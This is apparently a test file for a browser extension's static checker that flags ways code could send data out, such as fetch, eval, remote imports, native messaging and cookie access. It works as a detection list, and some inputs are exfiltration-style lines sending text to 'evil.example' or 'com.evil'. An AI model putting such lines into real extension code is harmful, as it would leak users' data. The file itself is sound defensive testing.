import { execFileSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { forbiddenIn, kindOf, withoutComments } from './forbidden';

const names = (...of: Parameters<typeof forbiddenIn>) => forbiddenIn(...of).map(({ name }) => name);

it.each([
  ["const a = 'https://a.example'; fetch(a);", ['fetch']],
  ["const all = ['https://*/*']; fetch(all[0]); /* as a page would */", ['fetch']],
  ['const text = " // "; fetch(text);', ['fetch']],
  ['// Without fetch(a).', []],
  ['go(); // Not fetch(a).', []],
  ['/* Neither eval(a)\n nor fetch(a). */ go();', []],
])('looks at all code and at no comment: %s', (code, found) =>
  expect(names(withoutComments(code), 'source')).toEqual(found),
);
const OPENS = 'a tab or window that opens anything but a page of ours';
const OUTSIDE = 'an address for after the removal, or a program outside of the browser';
const MESSAGE = 'a message to anybody but our own parts';

describe('in any script', () => {
  it.each([
    ['await fetch ("https://a.example")', 'fetch'],
    ['const g=fetch;g(x)', 'fetch'],
    ['send(self.fetch)', 'fetch'],
    ['new WebSocket(x)', 'WebSocket'],
    ['new WebTransport(x)', 'WebTransport'],
    ['new EventSource(x)', 'EventSource'],
    ['new webkitRTCPeerConnection(x)', 'RTCPeerConnection and its like'],
    ['globalThis["fet"+"ch"](x)', 'a name looked up on the global object'],
    ['eval(text)', 'eval'],
    ['a=Function("x")', 'new Function'],
    ['box.innerHTML = text', 'innerHTML and its like'],
    ['import("https://a.example/x.js")', 'an import that is not of one of our files'],
    ['import("ht"+"tps:")', 'an import that is not of one of our files'],
    ['import("//a.example/x.js")', 'an import that is not of one of our files'],
    ['import(name)', 'an import that is not of one of our files'],
    ['new Worker("//a.example/x.js")', 'a worker that is not one of our files'],
    ['(new Image)', 'a made Image or Audio'],
    ['document.createElement("iframe")', 'a made element that loads or sends'],
    ['Document.prototype.createElement.call(document,`script`)', 'a made element that loads or sends'],
    ['document.createElementNS(svg, "image")', 'a made element that loads or sends'],
    ['shown.src = x', 'a source set on an element'],
    ['shown.setAttribute("src", x)', 'an attribute set that loads or sends'],
    ['location.assign(x)', 'going elsewhere by location'],
    ['location.href=x', 'going elsewhere by location'],
    ['window.location = x', 'going elsewhere by location'],
    ['form.requestSubmit()', 'a form sent'],
    ['navigation.navigate(x)', 'going elsewhere by the Navigation API'],
    ['chrome.tabs.create({url:"https://evil.example/?"+text})', OPENS],
    ['t.tabs.create({url:x})', OPENS],
    ['t.windows.create({type:"popup",url:x})', OPENS],
    ['const c=t.tabs.create;', OPENS],
    ['t.tabs.update(id,{url:x})', 'a tab sent elsewhere'],
    ['t.runtime.setUninstallURL(x)', OUTSIDE],
    ['t.runtime.connectNative("com.evil")', OUTSIDE],
    ['t.runtime.sendNativeMessage("com.evil",text)', OUTSIDE],
    ['t.runtime.connect("abcdef")', 'a connection to another extension'],
    ['t.runtime.sendMessage("abcdef",text)', MESSAGE],
    ['t.tabs.sendMessage("abcdef",text)', MESSAGE],
    ['t.runtime.sendMessage(id,text)', MESSAGE],
    ['t.runtime.sendMessage(s("background",n,t),text)', MESSAGE],
    ['const s=t.runtime.sendMessage;', MESSAGE],
  ])('%s', (code, name) => {
    expect(names(code, 'source')).toEqual([name]);
    expect(names(code, 'script')).toEqual([name]);
    expect(names(code, 'content script')).toContain(name);
  });

  it.each([
    ['window.open(x)', 'window.open'],
    ['n=1;open(x)', 'window.open'],
    ['const t=chrome.tabs;', 'tabs or windows under another name'],
    ['chrome.tabs["create"](x)', 'tabs or windows under another name'],
    ['a.href="https://evil.example/"+text', 'an address set on a link that is not a file of ours'],
    ['m.httpEquiv="refresh"', 'going elsewhere by a refresh'],
  ])('%s', (code, name) => {
    expect(names(code, 'script')).toEqual([name]);
  });

  it.each([
    'prefetch(x); const evaluate = functional("fetch")',
    'say("They fetch what they want", location.href)',
    'if(location.href===x)y=location.hash="#a"',
    '({location:t=m.location,open(t){return t}})',
    'new Worker(c.runtime.getURL("/claims-worker.js"),{type:"module"})',
    'import("./chunk.js")',
    'm.open(t);box.src==x',
    'await t.tabs.create({url:t.runtime.getURL(a)});t.tabs.create({url:"chrome://extensions/shortcuts"})',
    'n.windows?await n.windows.create({url:n.runtime.getURL(o),type:"popup"}):await n.windows.update(t,{focused:!0})',
    'e.runtime.sendMessage(s("background",n,t));e.tabs.sendMessage(n,s("page",a,t),{frameId:0});a.sendMessage(...n)',
    '{setUninstallURL:{minArgs:1,maxArgs:1},sendNativeMessage:{minArgs:2,maxArgs:2}}',
    'n.href=URL.createObjectURL(new Blob([t]));if(n.href===x)n.click()',
    'o.crossOrigin="",o.href=e,s&&o.setAttribute("nonce",s)',
  ])('lets be what only looks like it: %s', (code) => expect(names(code, 'script')).toEqual([]));
});

describe('in the content script, which no policy holds', () => {
  it.each([
    ['make("img",{})', 'a tag that loads or sends'],
    ['make("iframe",{title:t})', 'a tag that loads or sends'],
    ['make(tag,{src:x})', 'a source'],
    ['make(tag,{href:x})', 'a link set, or clicked'],
    ['a.href=URL.createObjectURL(x)', 'a link set, or clicked'],
    ['a.click()', 'a link set, or clicked'],
    ['const I=Image;', 'Image or Audio as a value'],
    ['t="https://a.example"', 'an address of the web'],
    ['t="//"+host;u=`//a`', 'an address of the web'],
    ['css="a{background:url(x)}"', 'a picture or sheet from a style'],
    ['postMessage(x)', 'window.postMessage'],
    ['document.cookie', 'cookies and storage of the page'],
  ])('%s', (code, name) => {
    expect(names(code, 'content script')).toEqual([name]);
    expect(names(code, 'script')).toEqual([]);
  });

  it('may look for frames, and ask what an object is', () =>
    expect(names('all(t,"iframe").concat("object"==typeof n)', 'content script')).toEqual([]));
});

it('looks for scripts in pages only, and for what Preact has a word for in our sources only', () => {
  expect(names('<script>x</script>', 'page')).toEqual(['a script written into a page']);
  expect(names('"<script>x</script>"', 'script')).toEqual([]);
  expect(names('dangerouslySetInnerHTML', 'source')).toEqual(["Preact's innerHTML"]);
  expect(names('dangerouslySetInnerHTML', 'script')).toEqual([]);
});

it('finds what a page or a style sheet gets from elsewhere', () => {
  expect(names('<script src="//a.example/x.js"></script>', 'page')).toEqual(['something from elsewhere']);
  expect(names('<script type="module" src="/chunks/x.js"></script>', 'page')).toEqual([]);
  expect(names('<iframe></iframe>', 'page')).toEqual(['a frame, a form or a base']);
  const sheet = 'something from elsewhere in a style';
  expect(names('a{background:url(https://a.example/x)}', 'style sheet')).toEqual([sheet]);
  expect(names("@import 'x.css';", 'style sheet')).toEqual([sheet]);
  expect(names('a{background:image-set("//a.example/x" 1x)}', 'style sheet')).toEqual([sheet]);
  expect(names('a{background:url(data:image/svg+xml,x)}', 'style sheet')).toEqual([]);
});

it('knows the content script by its folder', () => {
  expect(kindOf('content-scripts/content.js')).toBe('content script');
  expect(kindOf('chunks/content.mjs')).toBe('script');
  expect(kindOf('icon/16.png')).toBeNull();
});

it('exits with 2 where there is nothing to read', () => {
  const empty = mkdtempSync(join(tmpdir(), 'sidelight-nothing-'));
  const run = () =>
    execFileSync('npx', ['tsx', join(import.meta.dirname, 'inspect.ts'), empty], { stdio: 'pipe' });
  expect(run).toThrow(expect.objectContaining({ status: 2 }));
});
